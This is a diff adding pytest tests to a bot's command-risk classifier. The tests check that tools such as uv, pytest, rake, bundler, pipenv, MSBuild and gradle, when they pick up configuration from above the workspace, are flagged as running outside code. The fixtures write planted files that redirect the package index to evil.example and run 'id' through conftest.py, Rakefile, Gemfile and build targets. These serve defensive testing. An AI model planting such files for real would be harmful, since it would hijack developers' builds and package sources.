@@ -12,7 +12,7 @@ from pathlib import Path
 import pytest
 
 from bot.risk import RiskLevel, classify
-from bot.risk.recipes import ProjectRecipes
+from bot.risk.recipes import GivenRecipes, ProjectRecipes
 from tests.harness import Harness
 from tests.risk.test_risk_host_changes import WORKSPACE
 from tests.test_standing import asks, auto
@@ -463,3 +463,84 @@ async def test_a_bot_wide_star_up_to_system_does_not_cover_network_or_account_lo
     ):
         esc = await asks(harness, token, **sent(command, tmp_path))
         assert esc["risk"] == "destructive", esc
+
+
+# -- uv, poetry and pdm find pyproject.toml above the workspace ----------------------------------------------------
+@pytest.mark.parametrize("command", ["uv pip install requests", "uv add requests", "uv sync", "uv lock"])
+def test_a_pyproject_above_the_workspace_is_reported(tmp_path: Path, command: str) -> None:
+    # uv "Configuration files": the nearest pyproject.toml or uv.toml in the directory or a parent is read
+    (tmp_path / "pyproject.toml").write_text('[tool.uv]\nindex-url = "https://evil.example/simple"\n')
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    _risk, chosen, _rules = graded(command, ws)
+    assert any("pyproject.toml" in c and "index-url" in c for c in chosen), chosen
+    # with no [tool.uv], it is still the project uv finds when the workspace has none
+    (tmp_path / "pyproject.toml").write_text('[project]\nname = "outer"\nversion = "1"\n')
+    assert any("above the workspace" in c for c in graded(command, ws)[1])
+    # the workspace's own pyproject.toml is the project: the one above chooses nothing
+    (ws / "pyproject.toml").write_text('[project]\nname = "inner"\nversion = "1"\n')
+    assert graded(command, ws)[1] == []
+
+
+# -- pytest's rootdir above the workspace ----------------------------------------------------------------------
+@pytest.mark.parametrize("command", ["pytest", "pytest test_a.py", "python3 -m pytest -q"])
+def test_a_pytest_ini_above_the_workspace_brings_in_the_conftest_there(tmp_path: Path, command: str) -> None:
+    # pytest "Initialization: determining rootdir and configfile": the ini file found upward sets the rootdir, and
+    # conftest.py files from there down to the tests are imported
+    (tmp_path / "pytest.ini").write_text("[pytest]\n")
+    (tmp_path / "conftest.py").write_text("import os\nos.system('id')\n")
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    (ws / "test_a.py").write_text("def test_a():\n    pass\n")
+    risk, _chosen, rules = graded(command, ws)
+    assert risk is DES and "project-outside-workspace" in rules, rules
+    # no conftest.py above, or the workspace's own ini: nothing of the directory above is imported
+    (tmp_path / "conftest.py").unlink()
+    assert graded(command, ws)[0] is RiskLevel.WORKSPACE_WRITE
+    (tmp_path / "conftest.py").write_text("import os\nos.system('id')\n")
+    (ws / "pytest.ini").write_text("[pytest]\n")
+    assert graded(command, ws)[0] is RiskLevel.WORKSPACE_WRITE
+
+
+# -- build scripts and configurations tools find above the workspace ------------------------------------------------
+ABOVE_CASES = [
+    ("Rakefile", 'task :default do sh "id" end\n', ["rake", "rake test", "rake -T"]),
+    ("Gemfile", 'system("id")\n', ["bundle exec rspec", "bundle install"]),
+    ("Pipfile", '[[source]]\nurl = "https://evil.example/simple"\n', ["pipenv install", "pipenv sync"]),
+    (
+        "Directory.Build.targets",
+        '<Project><Target Name="x"><Exec Command="id"/></Target></Project>\n',
+        ["dotnet build", "dotnet test"],
+    ),  # fmt: skip
+    ("settings.gradle", 'exec { commandLine "id" }\n', ["gradle test", "gradle build"]),
+    ("eslint.config.js", "export default []\n", ["eslint ."]),
+    ("prettier.config.js", "module.exports = {}\n", ["prettier --check .", "prettier --write ."]),
+    (".prettierrc.yaml", "semi: false\n", ["prettier --check ."]),
+    ("eslint.config.mjs", "export default []\n", ["eslint ."]),
+    (
+        "pyproject.toml",
+        '[project]\nname = "outer"\nversion = "1"\n',
+        ["poetry run pytest", "poetry install", "uv sync", "uv run pytest", "uv add requests"],
+    ),  # fmt: skip
+]
+
+
+@pytest.mark.parametrize(("name", "text", "commands"), ABOVE_CASES, ids=[c[0] for c in ABOVE_CASES])
+def test_a_build_script_or_configuration_found_above_the_workspace_is_outside_code(
+    tmp_path: Path, name: str, text: str, commands: list[str]
+) -> None:
+    # rake(1), Bundler, pipenv, MSBuild "Customize your build", Gradle settings lookup, eslint and prettier
+    # configuration lookup: each looks in the directories above when the current one has none
+    (tmp_path / name).write_text(text)
+    ws = tmp_path / "ws"
+    ws.mkdir()
+    for command in commands:
+        read = classify(command, contained=False, workspace=str(ws), recipes=ProjectRecipes(ws))
+        assert read.risk is DES and "project-outside-workspace" in [r.rule for r in read.reasons], read.reasons
+        assert all(len(r.target) <= 200 for r in read.recipes)  # the longest target the server takes
+        given = classify(command, contained=False, workspace=str(ws), recipes=GivenRecipes(read.recipes))
+        assert given.risk is DES
+    # the workspace's own file is the one found: the one above is not reached
+    (ws / name).write_text(text)
+    for command in commands:
+        assert graded(command, ws)[0] is not DES, command
